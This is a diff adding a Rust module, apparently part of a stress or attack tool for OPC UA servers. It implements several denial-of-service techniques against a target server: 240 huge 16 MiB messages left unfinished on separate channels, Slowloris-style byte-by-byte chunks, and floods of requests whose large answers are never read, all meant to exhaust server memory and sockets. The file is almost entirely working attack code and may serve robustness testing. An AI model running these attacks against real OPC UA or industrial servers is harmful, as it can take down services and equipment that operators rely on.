@@ -1,0 +1,214 @@
+//! Messages that are never finished, and answers that nobody reads.
+
+use std::io::{Read, Write};
+use std::net::TcpStream;
+use std::time::{Duration, Instant};
+
+use takt_tcp::{ClientConnection, ClientConnectionConfig, ClientEvent};
+use takt_ua::structures::{GetEndpointsRequest, ReadRequest, ReadValueId};
+use takt_ua::{NodeId, ids};
+
+use super::channel::{Channel, Lost, PATIENCE, Session, Way};
+use super::target::Attacker;
+use crate::subject;
+
+/// How long a socket waits for a server that reads nothing.
+const SHORT: Duration = Duration::from_millis(200);
+
+/// The longest message that a server accepts, less what is left out of it.
+const LONGEST: usize = (16 << 20) - (64 << 10);
+
+/// A socket and the state of its SecureChannel, for bytes that a client of the library would not send.
+pub(super) struct RawChannel {
+    socket: TcpStream,
+    machine: ClientConnection,
+}
+
+impl RawChannel {
+    pub(super) fn open(attacker: &mut Attacker<'_>) -> Result<Self, Lost> {
+        let socket = connect(attacker)?;
+        let url = attacker.endpoints.tcp.to_string();
+        let machine = ClientConnection::new(ClientConnectionConfig::default(), &url);
+        let mut channel = Self { socket, machine };
+        channel.socket.set_read_timeout(Some(PATIENCE))?;
+        let lost = |error: takt_tcp::TransportError| std::io::Error::other(error.to_string());
+        loop {
+            channel.flush()?;
+            let count = channel.socket.read(channel.machine.receive_space())?;
+            if count == 0 {
+                return Err(std::io::Error::from(std::io::ErrorKind::ConnectionReset).into());
+            }
+            channel.machine.received(count);
+            while let Some(event) = channel.machine.poll(Instant::now()).map_err(lost)? {
+                if matches!(event, ClientEvent::Opened) {
+                    channel.socket.set_write_timeout(Some(SHORT))?;
+                    return Ok(channel);
+                }
+            }
+        }
+    }
+
+    fn flush(&mut self) -> std::io::Result<()> {
+        while !self.machine.transmit().is_empty() {
+            let count = self.socket.write(self.machine.transmit())?;
+            self.machine.transmitted(count);
+        }
+        Ok(())
+    }
+
+    /// The chunks of a message with this body, headers included. They are not sent.
+    fn chunks(&mut self, body: &[u8]) -> Vec<u8> {
+        // What cannot be encoded sends nothing.
+        let _ = self.machine.request(|encoder| encoder.bytes(body));
+        self.machine.transmit().to_vec()
+    }
+}
+
+/// A socket that is connected, and nothing more.
+pub(super) fn connect(attacker: &mut Attacker<'_>) -> Result<TcpStream, Lost> {
+    let addresses = attacker.endpoints.tcp.resolve()?;
+    let address = addresses
+        .first()
+        .ok_or(std::io::ErrorKind::AddrNotAvailable)
+        .map_err(std::io::Error::from)?;
+    let socket = TcpStream::connect_timeout(address, PATIENCE)?;
+    socket.set_write_timeout(Some(SHORT))?;
+    attacker.tally.connections += 1;
+    Ok(socket)
+}
+
+/// 240 messages of 16 MiB without their last chunk, each over a channel of its own without a Session.
+pub(super) fn unfinished(attacker: &mut Attacker<'_>) -> Result<(), Lost> {
+    let body = vec![0; LONGEST];
+    let mut held = Vec::new();
+    while attacker.goes_on() {
+        if held.len() >= attacker.count(240) {
+            attacker.hold();
+            break;
+        }
+        match RawChannel::open(attacker) {
+            Ok(mut channel) => {
+                let chunks = channel.chunks(&body);
+                let all = chunks.len().saturating_sub(1 << 16);
+                let sent = channel
+                    .socket
+                    .write_all(chunks.get(..all).unwrap_or_default());
+                attacker.tally.messages += 1;
+                if let Err(error) = sent {
+                    attacker.refused(error);
+                }
+                // The encoded message is not kept, the socket is.
+                held.push(channel.socket);
+            }
+            Err(lost) => attacker.refused(lost),
+        }
+    }
+    Ok(())
+}
+
+/// 200 messages of which a byte comes now and then: chunks that never end.
+pub(super) fn slow(attacker: &mut Attacker<'_>) -> Result<(), Lost> {
+    let mut held: Vec<(TcpStream, Vec<u8>)> = Vec::new();
+    let body = vec![0; 256 << 10];
+    let count = attacker.count(200);
+    while attacker.goes_on() {
+        if held.len() < count {
+            match RawChannel::open(attacker) {
+                Ok(mut channel) => {
+                    let mut chunks = channel.chunks(&body);
+                    // All of the first chunk but a few bytes at once.
+                    let first: Vec<u8> = chunks.drain(..chunks.len().min(65_000)).collect();
+                    if channel.socket.write_all(&first).is_ok() {
+                        attacker.tally.messages += 1;
+                        held.push((channel.socket, chunks));
+                    }
+                }
+                Err(lost) => attacker.refused(lost),
+            }
+        } else {
+            attacker.wait(Duration::from_millis(100));
+        }
+        held.retain_mut(|(socket, rest)| {
+            let byte = rest.first().copied().unwrap_or_default();
+            !rest.is_empty() && socket.write_all(&[byte]).is_ok() && {
+                rest.remove(0);
+                true
+            }
+        });
+    }
+    Ok(())
+}
+
+/// Requests whose answers are much longer, over channels without a Session, that nobody reads.
+pub(super) fn unread_without_session(attacker: &mut Attacker<'_>) -> Result<(), Lost> {
+    let request = GetEndpointsRequest {
+        request_header: subject::header(&NodeId::NULL),
+        endpoint_url: attacker.endpoints.tcp.to_string().as_str().into(),
+        ..GetEndpointsRequest::default()
+    };
+    let message = subject::message(&request);
+    let count = attacker.count(200);
+    fill(attacker, count, &message, |attacker| {
+        Ok((Channel::open(attacker, Way::Tcp)?, None))
+    })
+}
+
+/// The same with Sessions, whose Reads are answered with many NamespaceArrays.
+pub(super) fn unread(attacker: &mut Attacker<'_>) -> Result<(), Lost> {
+    let value = ReadValueId {
+        node_id: NodeId::numeric(0, ids::SERVER_SERVER_STATUS),
+        attribute_id: 13,
+        ..ReadValueId::default()
+    };
+    let nodes = vec![value; attacker.count(10_000)];
+    let count = attacker.count(64);
+    fill(attacker, count, &[], |attacker| {
+        let session = Session::open(attacker, Way::Tcp)?;
+        let request = ReadRequest {
+            request_header: session.header(),
+            nodes_to_read: nodes.clone(),
+            ..ReadRequest::default()
+        };
+        Ok((session.channel, Some(subject::message(&request))))
+    })
+}
+
+/// Opens so many channels and sends on each as many requests as the server takes. Each may have a message of its own.
+fn fill(
+    attacker: &mut Attacker<'_>,
+    count: usize,
+    message: &[u8],
+    mut open: impl FnMut(&mut Attacker<'_>) -> Result<(Channel, Option<Vec<u8>>), Lost>,
+) -> Result<(), Lost> {
+    let mut held = Vec::new();
+    while attacker.goes_on() {
+        if held.len() >= count {
+            attacker.hold();
+            break;
+        }
+        let (mut channel, own) = match open(attacker) {
+            Ok(opened) => opened,
+            Err(lost) => {
+                attacker.refused(lost);
+                continue;
+            }
+        };
+        let message = own.as_deref().unwrap_or(message);
+        // At most so many: a server that takes them all has answered them into the socket's buffer.
+        for _ in 0..2000 {
+            if !attacker.goes_on() {
+                break;
+            }
+            match channel.send(attacker, message, Duration::from_millis(20)) {
+                Ok(true) => {}
+                Ok(false) => break,
+                Err(lost) => {
+                    attacker.refused(lost);
+                    break;
+                }
+            }
+        }
+        held.push(channel);
+    }
+    Ok(())
+}
